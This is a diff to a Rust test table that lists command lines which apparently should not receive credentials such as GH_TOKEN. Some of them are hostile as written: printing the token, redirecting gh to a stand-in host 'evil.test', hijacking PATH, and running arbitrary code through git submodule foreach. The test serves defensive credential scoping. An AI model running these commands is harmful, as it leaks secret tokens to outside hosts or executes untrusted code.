@@ -28,11 +28,13 @@ const OWN: [(&str, &str, &str); 14] = [
 ];
 
 /// Lines that do not consist of the program alone, or run code of the checkout.
-const OTHERS: [(&str, &str, &str); 10] = [
+const OTHERS: [(&str, &str, &str); 12] = [
     ("GH_TOKEN", "gh *", "printenv GH_TOKEN"),
     ("GH_TOKEN", "gh *", "gh pr list | tee x"),
     ("GH_TOKEN", "gh *", "gh pr list; make"),
     ("GH_TOKEN", "gh *", "npm publish"),
+    ("GH_TOKEN", "gh *", "printf -v PATH . ; gh pr list"),
+    ("GIT_TOKEN", "git *", "git submodule foreach x"),
     ("GH_TOKEN", "gh *", "./gh pr list"),
     ("GH_TOKEN", "gh *", "GH_HOST=evil.test gh pr list"),
     ("NPM_TOKEN", "npm *", "npm test"),
